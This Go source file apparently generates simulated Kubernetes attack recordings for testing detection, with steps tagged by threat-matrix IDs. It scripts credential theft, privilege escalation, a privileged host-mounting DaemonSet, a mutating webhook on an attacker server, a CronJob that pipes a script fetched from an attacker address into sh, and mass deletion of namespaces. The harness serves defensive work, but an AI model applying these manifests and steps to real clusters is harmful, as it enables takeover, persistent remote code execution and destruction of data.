package cluster

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net/http"

	"k8s.io/client-go/rest"
)

// What thieves' programs call themselves.
const (
	oldKubectl = "kubectl/v1.33.4 (linux/amd64) kubernetes/74cdb42"
	curl       = "curl/8.5.0"
	python     = "python-requests/2.32.3"
)

const (
	rbac     = "/apis/rbac.authorization.k8s.io/v1"
	requests = "/apis/certificates.k8s.io/v1/certificatesigningrequests"
	hooks    = "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations"
)

// Attacks are those of the recordings that need no running container.
func Attacks() []Script {
	return []Script{
		leakedKubeconfig(), ciTokenWebhook(), csrPersistence(), rbacQuiet(),
		impersonationEvents(), cronJobPersistence(), destruction(),
	}
}

func leakedKubeconfig() Script {
	alice := func(s *Stage, address, agent string) *hand {
		return s.once("alice", func() who { return s.person("alice", "shop-devs") }).from(address, agent)
	}
	stolen := func(s *Stage) *hand { return s.bearer(s.keep["token"]).from(thief, oldKubectl) }
	return Script{
		Name: "leaked-kubeconfig", Attack: true, Suspect: "system:serviceaccount:shop:deployer",
		About: "A developer's client certificate is used from a foreign address; a legacy ServiceAccount token found with it makes the attacker cluster-admin and puts a privileged DaemonSet on every node.",
		Setup: func(s *Stage) {
			s.ops.create(stream(namespace("shop"), account("shop", "deployer"), binding("", "shop-deployer", "cluster-admin", "shop:deployer"),
				binding("shop", "shop-devs-edit", "edit", "Group/shop-devs"), deployment("shop", "web", "default", "registry.example.com/shop/web:1.4.2"),
				"apiVersion: v1\nkind: Secret\nmetadata: {name: deployer-token, namespace: shop, annotations: {kubernetes.io/service-account.name: deployer}}\ntype: kubernetes.io/service-account-token"))
			s.ops.wait("/api/v1/namespaces/shop/secrets/deployer-token", func(answer []byte) bool { return tokenOf(answer) != "" })
		},
		Steps: []Step{
			{"", "alice works from the office", func(s *Stage) {
				h := alice(s, office, kubectl)
				h.get("/api/v1/namespaces/shop/pods", "/apis/apps/v1/namespaces/shop/deployments", "/apis/apps/v1/namespaces/shop/deployments/web")
			}},
			{"MS-TA9003, MS-TA9029", "alice's certificate is used from a foreign address: what may I do", func(s *Stage) { alice(s, thief, oldKubectl).rules() }},
			{"MS-TA9025", "secrets of shop, secrets of all namespaces (refused), the deployer's token", func(s *Stage) {
				h := alice(s, thief, oldKubectl)
				h.get("/api/v1/namespaces/shop/secrets")
				h.refused("/api/v1/secrets")
				s.keep["token"] = tokenOf(h.do(http.StatusOK, http.MethodGet, "/api/v1/namespaces/shop/secrets/deployer-token", "", nil))
			}},
			{"MS-TA9016, MS-TA9025", "the token is used: what may I do, secrets of all namespaces", func(s *Stage) {
				h := stolen(s)
				h.rules()
				h.get("/api/v1/secrets")
			}},
			{"MS-TA9019", "cluster-admin for a new ServiceAccount kube-system/log-rotate", func(s *Stage) {
				stolen(s).create(stream(account("kube-system", "log-rotate"), binding("", "log-rotate", "cluster-admin", "kube-system:log-rotate")))
			}},
			{"MS-TA9018, MS-TA9012", "a privileged DaemonSet kube-system/log-rotate", func(s *Stage) { stolen(s).create(privilegedDaemonSet) }},
		},
	}
}

const privilegedDaemonSet = `apiVersion: apps/v1
kind: DaemonSet
metadata: {name: log-rotate, namespace: kube-system}
spec:
  selector: {matchLabels: {app: log-rotate}}
  template:
    metadata: {labels: {app: log-rotate}}
    spec:
      serviceAccountName: log-rotate
      hostPID: true
      hostNetwork: true
      tolerations: [{operator: Exists}]
      containers:
      - name: main
        image: registry.example.com/tools/log-rotate:1.0
        securityContext: {privileged: true}
        volumeMounts: [{name: host, mountPath: /host}]
      volumes: [{name: host, hostPath: {path: /}}]`

func tokenOf(secret []byte) string {
	var o struct{ Data struct{ Token []byte } }
	_ = json.Unmarshal(secret, &o) // the API server's own
	return string(o.Data.Token)
}

func ciTokenWebhook() Script {
	ci := func(s *Stage) *hand { return s.bearer(s.keep["ci"]).from(runner, kubectl) }
	minted := func(s *Stage) *hand { return s.bearer(s.keep["manager"]).from(thief, python) }
	return Script{
		Name: "ci-token-webhook", Attack: true, Suspect: "system:serviceaccount:policy:policy-manager",
		About: "A compromised CI job mints a token of a powerful ServiceAccount; with it, from a foreign address, a mutating webhook on an outside server is registered.",
		Setup: func(s *Stage) {
			s.ops.create(stream(namespace("builds"), namespace("policy"), namespace("web"), account("builds", "runner"), account("policy", "policy-manager"),
				deployment("web", "front", "default", "registry.example.com/web/front:1.0.0"),
				binding("web", "runner", "edit", "builds:runner"),
				role("policy", "token-minter", "- serviceaccounts get,list", "- serviceaccounts/token create"), binding("policy", "runner-mints", "Role/token-minter", "builds:runner"),
				role("", "policy-manager", "admissionregistration.k8s.io mutatingwebhookconfigurations get,list,create,update,patch,delete"), binding("", "policy-manager", "policy-manager", "policy:policy-manager")))
			s.keep["ci"] = s.ops.mint("builds", "runner", "")
		},
		Steps: []Step{
			{"", "ordinary CI sets an image", func(s *Stage) {
				h := ci(s)
				h.get("/apis/apps/v1/namespaces/web/deployments/front")
				h.patch("/apis/apps/v1/namespaces/web/deployments/front", `{"metadata":{"annotations":{"build":"17"}}}`)
			}},
			{"MS-TA9016, MS-TA9029", "the job is compromised: what may I do, ServiceAccounts of policy", func(s *Stage) {
				h := ci(s)
				h.rules()
				h.get("/api/v1/namespaces/policy/serviceaccounts")
			}},
			{"MS-TA9016", "a token of policy/policy-manager is minted", func(s *Stage) { s.keep["manager"] = ci(s).mint("policy", "policy-manager", "") }},
			{"MS-TA9016, MS-TA9029", "it is used from a foreign address by another program: what may I do, webhooks, secrets (refused)", func(s *Stage) {
				h := minted(s)
				h.rules()
				h.get(hooks)
				h.refused("/api/v1/secrets")
			}},
			{"MS-TA9015, MS-TA9011", "a mutating webhook on a server outside, for Deployments of all namespaces", func(s *Stage) { minted(s).create(outsideWebhook) }},
		},
	}
}

const outsideWebhook = `apiVersion: admissionregistration.k8s.io/v1
kind: MutatingWebhookConfiguration
metadata: {name: pod-defaults}
webhooks:
- name: pods.defaults.example.com
  clientConfig: {url: "https://` + thief + `:8443/mutate"}
  rules: [{apiGroups: [apps], apiVersions: [v1], resources: [deployments], operations: [CREATE, UPDATE]}]
  admissionReviewVersions: [v1]
  sideEffects: None
  failurePolicy: Ignore
  timeoutSeconds: 1`

func csrPersistence() Script {
	ben := func(s *Stage, address, agent string) *hand {
		return s.once("ben", func() who { return s.person("ops-ben", "platform-admins") }).from(address, agent)
	}
	fresh := func(s *Stage) *hand {
		return s.once("sync", func() who { return who{s, s.certificate(pair{[]byte(s.keep["crt"]), []byte(s.keep["key"])})} }).from(thiefToo, curl)
	}
	return Script{
		Name: "csr-persistence", Attack: true, Suspect: "ops-ben",
		About: "A stolen admin certificate is turned into a credential of its own: CSR, approval, issued client certificate, binding; used from another address.",
		Setup: func(s *Stage) { s.ops.create(stream(namespace("pay"), secret("pay", "api-keys"))) },
		Steps: []Step{
			{"", "ops-ben works from the ops desk", func(s *Stage) { ben(s, opsDesk, kubectl).get("/api/v1/nodes", "/api/v1/pods") }},
			{"MS-TA9003", "his certificate is used from a foreign address: CSRs, bindings", func(s *Stage) { ben(s, thief, oldKubectl).get(requests, rbac+"/clusterrolebindings") }},
			{"MS-TA9003", "a CSR for the group system:masters is refused", func(s *Stage) {
				ben(s, thief, oldKubectl).createWant(http.StatusForbidden, s.signingRequest("ops-sync-0", "ops-sync", "system:masters"))
			}},
			{"MS-TA9003", "a CSR as ops-sync, approved by the same hand, signed by the cluster", func(s *Stage) {
				h := ben(s, thief, oldKubectl)
				h.create(s.signingRequest("ops-sync-1", "ops-sync", "platform-sync"))
				approve(h, "ops-sync-1")
				h.wait(requests+"/ops-sync-1", func(answer []byte) bool {
					var o struct{ Status struct{ Certificate []byte } }
					h.read(answer, &o)
					s.keep["crt"] = string(o.Status.Certificate)
					return s.keep["crt"] != ""
				})
			}},
			{"MS-TA9019", "cluster-admin for User ops-sync", func(s *Stage) {
				ben(s, thief, oldKubectl).create(binding("", "ops-sync", "cluster-admin", "User/ops-sync"))
			}},
			{"MS-TA9022", "the CSR is deleted", func(s *Stage) { ben(s, thief, oldKubectl).delete(requests + "/ops-sync-1") }},
			{"MS-TA9025, MS-TA9029", "the new certificate from another address: what may I do, secrets", func(s *Stage) {
				h := fresh(s)
				h.rules()
				h.get("/api/v1/secrets", "/api/v1/namespaces/pay/secrets/api-keys")
			}},
			{"MS-TA9008", "a pod with it", func(s *Stage) { fresh(s).create(pod("pay", "config-check", "docker.io/library/alpine:3.20")) }},
		},
	}
}

// signingRequest is a CSR for a client certificate; its key is kept.
func (s *Stage) signingRequest(name, user string, groups ...string) string {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	s.fail(err)
	der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{Subject: pkix.Name{CommonName: user, Organization: groups}}, key)
	s.fail(err)
	private, err := x509.MarshalPKCS8PrivateKey(key)
	s.fail(err)
	s.keep["key"] = string(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: private}))
	text := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der})
	return fmt.Sprintf("apiVersion: certificates.k8s.io/v1\nkind: CertificateSigningRequest\nmetadata: {name: %s}\nspec: {signerName: kubernetes.io/kube-apiserver-client, usages: [client auth], request: %s}",
		name, base64.StdEncoding.EncodeToString(text))
}

func approve(h *hand, name string) {
	var o map[string]any
	h.read(h.do(http.StatusOK, http.MethodGet, requests+"/"+name, "", nil), &o)
	if h.stage.err != nil {
		return
	}
	o["status"] = map[string]any{"conditions": []any{map[string]any{"type": "Approved", "status": "True", "reason": "KubectlApprove"}}}
	body, err := json.Marshal(o)
	h.stage.fail(err)
	h.do(http.StatusOK, http.MethodPut, requests+"/"+name+"/approval", "application/json", body)
}

func pod(namespace, name, image string) string {
	return fmt.Sprintf("apiVersion: v1\nkind: Pod\nmetadata: {name: %s, namespace: %s}\nspec: {containers: [{name: main, image: %q, command: [sleep, \"3600\"]}]}", name, namespace, image)
}

func rbacQuiet() Script {
	sync := func(s *Stage, address, agent string) *hand { return s.bearer(s.keep["sync"]).from(address, agent) }
	frank := func(s *Stage, address, agent string) *hand {
		return s.once("frank", func() who { return s.person("frank", "billing-devs") }).from(address, agent)
	}
	return Script{
		Name: "rbac-quiet", Attack: true, Suspect: "system:serviceaccount:sync:role-sync",
		About: "Quiet privilege escalation: rules are added to a bound ClusterRole, and through an aggregation label to view; a developer's certificate then reads what it could not.",
		Setup: func(s *Stage) {
			s.ops.create(stream(namespace("sync"), namespace("billing"), secret("billing", "api-keys"), account("sync", "role-sync"),
				role("", "role-sync", "rbac.authorization.k8s.io clusterroles get,list,create,update,patch,escalate"), binding("", "role-sync", "role-sync", "sync:role-sync"),
				role("", "catalog-reader", "- services list"), binding("", "catalog-readers", "catalog-reader", "Group/billing-devs"),
				binding("billing", "devs-view", "view", "Group/billing-devs")))
			s.keep["sync"] = s.ops.mint("sync", "role-sync", "")
		},
		Steps: []Step{
			{"", "the role-sync service lists the roles from its host", func(s *Stage) { sync(s, appHost, "role-sync/0.3").get(rbac + "/clusterroles") }},
			{"", "frank works from the office; secrets are not his", func(s *Stage) {
				h := frank(s, office, kubectl)
				h.get("/api/v1/namespaces/billing/pods", "/api/v1/services")
				h.refused("/api/v1/namespaces/billing/secrets")
			}},
			{"MS-TA9016, MS-TA9019", "the token is used from a foreign address: secrets are added to catalog-reader", func(s *Stage) {
				h := sync(s, thief, python)
				h.get(rbac + "/clusterroles/catalog-reader")
				h.patch(rbac+"/clusterroles/catalog-reader", `{"rules":[{"apiGroups":[""],"resources":["services","secrets"],"verbs":["get","list"]}]}`)
			}},
			{"MS-TA9019", "a ClusterRole whose label adds its rules to view", func(s *Stage) {
				sync(s, thief, python).create(`apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: view-metrics, labels: {rbac.authorization.k8s.io/aggregate-to-view: "true"}}
rules: [{apiGroups: [""], resources: [secrets, pods/exec], verbs: [get, list, create]}]`)
			}},
			{"MS-TA9003, MS-TA9025", "frank's certificate from the same address: secrets of all namespaces", func(s *Stage) {
				h := frank(s, thief, oldKubectl)
				h.get("/api/v1/secrets", "/api/v1/namespaces/billing/secrets/api-keys")
			}},
			{"MS-TA9019", "role-sync gives itself everything and lists secrets", func(s *Stage) {
				h := sync(s, thief, python)
				h.patch(rbac+"/clusterroles/role-sync", `{"rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]}`)
				h.retry(func() { h.get("/api/v1/secrets") })
			}},
		},
	}
}

func impersonationEvents() Script {
	ivan := func(s *Stage, address, agent string, other rest.ImpersonationConfig) *hand {
		return s.once("ivan", func() who { return s.person("ivan", "platform-support") }).as(address, agent, other)
	}
	admin := rest.ImpersonationConfig{UserName: "ops-zoe", Groups: []string{"platform-admins"}}
	return Script{
		Name: "impersonation-events", Attack: true, Suspect: "ivan",
		About: "A support account with impersonation rights is used from outside: after one refused try it acts as a cluster admin, reads secrets everywhere, runs a pod, removes the pod and the namespace's events.",
		Setup: func(s *Stage) {
			s.ops.create(stream(namespace("ledger"), secret("ledger", "api-keys"), deployment("ledger", "books", "default", "registry.example.com/ledger/books:1.1.0"),
				binding("ledger", "devs", "edit", "Group/ledger-devs"),
				`apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: support-impersonation}
rules:
- {apiGroups: [""], resources: [users], verbs: [impersonate]}
- {apiGroups: [""], resources: [groups], verbs: [impersonate], resourceNames: [ledger-devs, platform-admins]}`,
				binding("", "support-impersonation", "support-impersonation", "Group/platform-support")))
		},
		Steps: []Step{
			{"", "ivan looks at a developer's view from the office", func(s *Stage) {
				ivan(s, office, kubectl, rest.ImpersonationConfig{UserName: "gina", Groups: []string{"ledger-devs"}}).get("/api/v1/namespaces/ledger/pods")
			}},
			{"MS-TA9003, MS-TA9029", "ivan's certificate from a foreign address: what may I do", func(s *Stage) { ivan(s, stranger, oldKubectl, rest.ImpersonationConfig{}).rules() }},
			{"MS-TA9019", "acting as system:masters is refused", func(s *Stage) {
				ivan(s, stranger, oldKubectl, rest.ImpersonationConfig{UserName: "kubernetes-admin", Groups: []string{"system:masters"}}).refused("/api/v1/secrets")
			}},
			{"MS-TA9019, MS-TA9025", "acting as an administrator: secrets of all namespaces", func(s *Stage) {
				ivan(s, stranger, oldKubectl, admin).get("/api/v1/secrets", "/api/v1/namespaces/ledger/secrets/api-keys")
			}},
			{"MS-TA9008", "a pod", func(s *Stage) {
				ivan(s, stranger, oldKubectl, admin).create(pod("ledger", "cache-check", "docker.io/library/alpine:3.20"))
			}},
			{"MS-TA9038, MS-TA9022", "the pod and the events of the namespace are deleted", func(s *Stage) {
				h := ivan(s, stranger, oldKubectl, admin)
				h.delete("/api/v1/namespaces/ledger/pods/cache-check", "/api/v1/namespaces/ledger/events")
			}},
		},
	}
}

func cronJobPersistence() Script {
	web := func(s *Stage, address, agent string) *hand { return s.bearer(s.keep["token"]).from(address, agent) }
	return Script{
		Name: "cronjob-persistence", Attack: true, Suspect: "system:serviceaccount:portal:web",
		About: "A web pod's own token is used from outside; after probing it makes a CronJob that fetches a script every two minutes.",
		Setup: func(s *Stage) {
			s.ops.create(stream(namespace("portal"), account("portal", "web"),
				role("portal", "web-jobs", "batch jobs,cronjobs get,list,create,delete"), binding("portal", "web-jobs", "Role/web-jobs", "portal:web"),
				deployment("portal", "web", "web", "registry.example.com/portal/web:1.4.0")))
			s.keep["token"] = s.runPod("node1", "portal", "web")
		},
		Steps: []Step{
			{"", "the pod lists its Jobs from its own address", func(s *Stage) { web(s, podAddress, "web/1.4").get("/apis/batch/v1/namespaces/portal/jobs") }},
			{"MS-TA9004, MS-TA9016, MS-TA9029", "its token is used from a foreign address by curl: what may I do", func(s *Stage) { web(s, thief, curl).rules() }},
			{"MS-TA9025, MS-TA9029", "secrets, nodes, namespaces, bindings, all refused", func(s *Stage) {
				web(s, thief, curl).refused("/api/v1/namespaces/portal/secrets", "/api/v1/nodes", "/api/v1/namespaces", rbac+"/clusterrolebindings", "/api/v1/namespaces/portal/pods")
			}},
			{"MS-TA9014, MS-TA9007", "a CronJob that fetches and runs a script every two minutes", func(s *Stage) {
				web(s, thief, curl).create(`apiVersion: batch/v1
kind: CronJob
metadata: {name: cache-warmer, namespace: portal}
spec:
  schedule: "*/2 * * * *"
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: Never
          containers: [{name: main, image: "docker.io/curlimages/curl:8.5.0", command: [sh, -c, "curl -fsSL http://` + thiefToo + `/w.sh | sh"]}]`)
			}},
		},
	}
}

func destruction() Script {
	stolen := func(s *Stage) *hand { return s.bearer(s.keep["backup"]).from(thief, oldKubectl) }
	return Script{
		Name: "destruction", Attack: true, Suspect: "system:serviceaccount:backup:backup",
		About: "A backup ServiceAccount's token is stolen and used to destroy workloads, volumes, secrets and namespaces.",
		Setup: func(s *Stage) {
			s.ops.create(stream(namespace("backup"), account("backup", "backup"), binding("", "backup", "cluster-admin", "backup:backup")))
			for _, ns := range []string{"orders", "stock", "analytics"} {
				s.ops.create(stream(namespace(ns), secret(ns, "db"), secret(ns, "api"), deployment(ns, "db", "default", "registry.example.com/data/db:15"), claim(ns, "db")))
			}
			s.keep["backup"] = s.ops.mint("backup", "backup", "")
		},
		Steps: []Step{
			{"", "the backup host lists the volumes as every hour", func(s *Stage) {
				s.bearer(s.keep["backup"]).from(appHost, "backup/1.12").get("/api/v1/persistentvolumeclaims", "/api/v1/namespaces")
			}},
			{"MS-TA9029", "its token from a foreign address with kubectl: namespaces, volumes, workloads", func(s *Stage) {
				stolen(s).get("/api/v1/namespaces", "/api/v1/persistentvolumeclaims", "/apis/apps/v1/deployments")
			}},
			{"MS-TA9038", "workloads, claims and secrets of three namespaces are deleted", func(s *Stage) {
				for _, ns := range []string{"orders", "stock", "analytics"} {
					stolen(s).delete("/apis/apps/v1/namespaces/"+ns+"/deployments/db", "/api/v1/namespaces/"+ns+"/persistentvolumeclaims/db", "/api/v1/namespaces/"+ns+"/secrets")
				}
			}},
			{"MS-TA9038, MS-TA9040", "the namespaces too", func(s *Stage) {
				stolen(s).delete("/api/v1/namespaces/orders", "/api/v1/namespaces/stock", "/api/v1/namespaces/analytics")
			}},
		},
	}
}

func claim(namespace, name string) string {
	return fmt.Sprintf("apiVersion: v1\nkind: PersistentVolumeClaim\nmetadata: {name: %s, namespace: %s}\nspec: {accessModes: [ReadWriteOnce], resources: {requests: {storage: 1Gi}}}", name, namespace)
}
